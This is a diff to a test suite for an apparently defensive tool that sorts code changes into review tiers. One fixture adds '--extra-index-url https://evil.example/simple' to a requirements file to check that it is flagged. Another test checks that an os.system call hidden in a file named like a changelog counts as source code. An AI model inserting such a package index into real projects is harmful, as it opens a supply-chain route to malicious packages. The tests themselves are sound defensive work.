@@ -97,9 +97,10 @@ def test_index_url_switched_to_another_host_is_not_a_bump(tmp_path: Path) -> Non
     assert "--index-url" in dep.message and dep.tier == 2
 
 
-def test_extra_index_url_added_next_to_a_bump_is_not_a_bump(tmp_path: Path) -> None:
+def test_extra_index_url_next_to_a_bump_stays_tier_2_when_config_is_tier_1(tmp_path: Path) -> None:
+    repo = _repo(tmp_path, {".specpilot/policy.toml": "kinds = { config = 1 }\n"})
     new = "--extra-index-url https://evil.example/simple\nrequests==2.32.3\nrich==13.7.0\n"
-    decision = _tier(_repo(tmp_path), _files({"requirements.txt": new}))
+    decision = _tier(repo, _files({"requirements.txt": new}))
     assert decision.tier >= 2 and "dependency.change" in _rules(decision)
 
 
@@ -418,3 +419,13 @@ def test_auto_mode_does_not_merge_code_named_changelog(
     assert decision["tier"] == 2 and decision["kinds"]["calc/CHANGELOG_hook.py"] == "source"
     branch = data["deploy"]["branch"]
     assert "os.system" in git(remote, "show", f"{branch}:calc/CHANGELOG_hook.py")
+
+
+def test_go_test_files_stay_tests_while_their_package_is_imported(tmp_path: Path) -> None:
+    calc = "package calc\n\nfunc Add(a, b int) int { return a + b }\n"
+    test = 'package calc\n\nimport "testing"\n\nfunc TestAdd(t *testing.T) {}\n'
+    main = 'package main\n\nimport "example.com/demo/calc"\n\nfunc main() { calc.Add(1, 2) }\n'
+    files = {**TESTS_TIER_1, "go.mod": "module example.com/demo\n\ngo 1.22\n"}
+    files |= {"calc/calc.go": calc, "calc/calc_test.go": test, "cmd/main.go": main}
+    decision = _tier(_repo(tmp_path, files), _files({"calc/calc_test.go": test + "// more\n"}))
+    assert decision.kinds["calc/calc_test.go"] == "tests" and decision.tier == 1
